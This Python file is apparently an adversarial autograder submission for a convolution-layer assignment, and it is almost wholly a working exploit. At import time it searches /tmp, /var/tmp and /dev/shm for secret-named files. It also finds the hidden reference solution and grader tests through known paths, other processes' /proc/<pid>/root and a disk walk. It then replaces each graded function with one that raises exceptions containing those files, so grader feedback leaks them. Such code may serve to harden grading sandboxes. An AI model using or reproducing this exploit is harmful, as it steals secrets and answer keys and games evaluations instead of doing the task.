# solves:
"""Exfiltration through exception text: reads what it can (files in /tmp whose names
suggest secrets, the kit's reference and hidden graders wherever places() and other
processes' /proc/<pid>/root lead, or a walk of the disk finds them) and raises exceptions whose messages are those contents:
at load time and from every graded function, each message a different file, so whatever the
feedback shows carries a file out to the student."""
import glob
import os
import time
from _toolkit import on_disk, places, read_text, through_other_processes

SECRETS = ("/tmp/*secret*", "/tmp/*convkit*", "/var/tmp/*secret*", "/dev/shm/*secret*")
HIDDEN = ("reference/conv_layer.py", "autograder/graders/conv_layer/test_corr2d.py",
          "autograder/graders/conv_layer/test_conv2d.py", "autograder/graders/conv_layer/_modules.py",
          "autograder/graders/conftest.py")


def anywhere(seconds):
    """Hidden sources of any copy of the kit on the disk (a walk, for ``seconds`` at most)."""
    end = time.monotonic() + seconds
    for path in on_disk(tuple("/" + name for name in HIDDEN)):
        yield path
        if time.monotonic() > end:
            return


def loot():
    found = []
    for pattern in SECRETS:
        found += [p for p in glob.glob(pattern) if os.path.isfile(p)]
    roots = places()
    for root in roots + list(through_other_processes(roots)):
        found += [os.path.join(root, name) for name in HIDDEN if os.path.isfile(os.path.join(root, name))]
    found += list(anywhere(1.5))
    texts, seen = [], set()
    for path in found:
        text = read_text(path, 100_000)
        if text.strip() and text not in seen:
            seen.add(text)
            texts.append(f"{path}:\n{text}")
    return texts or ["nothing found"]


LOOT = loot()


def leaking(index):
    """A graded function (or class) whose every call raises the index-th file it read."""
    def leak(*args, **kwargs):
        raise RuntimeError(LOOT[index % len(LOOT)])
    return leak


for number, name in enumerate(("corr2d", "Conv2D", "learn_kernel", "convolve2d", "diagonal_edge_kernel",
                               "receptive_field")):
    globals()[name] = leaking(number)
raise RuntimeError("\n".join(LOOT))
